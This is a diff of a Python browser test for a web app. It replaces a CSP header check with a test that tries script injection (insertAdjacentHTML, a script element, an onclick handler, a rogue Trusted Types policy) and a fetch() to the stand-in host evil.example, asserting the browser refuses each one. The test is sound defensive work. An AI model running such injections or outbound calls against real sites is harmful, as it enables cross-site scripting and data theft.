@@ -17,7 +17,6 @@ from local_stack.faults.tcp import FaultProxy
 from local_stack.servers.aws import Ministack
 from local_stack.servers.memorydb import MemoryDB
 from tests import desk_facts
-from tests.e2e import desk as desks
 from tests.e2e.desk import (
     HOSTILE,
     HOSTILE_QUESTION,
@@ -496,7 +495,23 @@ def test_what_has_no_answer_and_what_fails_is_said_plainly(
     expect(answer(page)).to_contain_text("21 days")
 
 
-def test_the_policy_of_the_page_reaches_the_browser(desk: Desk) -> None:
-    policy = desk.served.get("/").headers["Content-Security-Policy"]
-    assert "require-trusted-types-for 'script'; trusted-types dompurify" in policy
-    assert desks.STORE not in desk.served.get("/").text
+_FORBIDDEN = """() => {
+  const element = (name, change) => document.body.append(change(document.createElement(name)));
+  const tries = {
+    html: () => { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); },
+    script: () => element('script', (each) => Object.assign(each, {textContent: 'window.ran = 1'})),
+    handler: () => document.body.setAttribute('onclick', 'window.ran = 1'),
+    policy: () => trustedTypes.createPolicy('other', {}),
+  };
+  const done = ([, attempt]) => { try { attempt(); return true; } catch { return false; } };
+  return Object.entries(tries).filter(done).map(([name]) => name);
+}"""
+
+
+def test_the_browser_itself_refuses_what_the_page_never_does(desk: Desk, browser: Browser) -> None:
+    page = browser.new_page()
+    page.goto(desk.served.url)
+    assert page.evaluate(_FORBIDDEN) == []
+    assert page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')") == "refused"
+    assert page.evaluate("window.ran ?? null") is None
+    page.close()
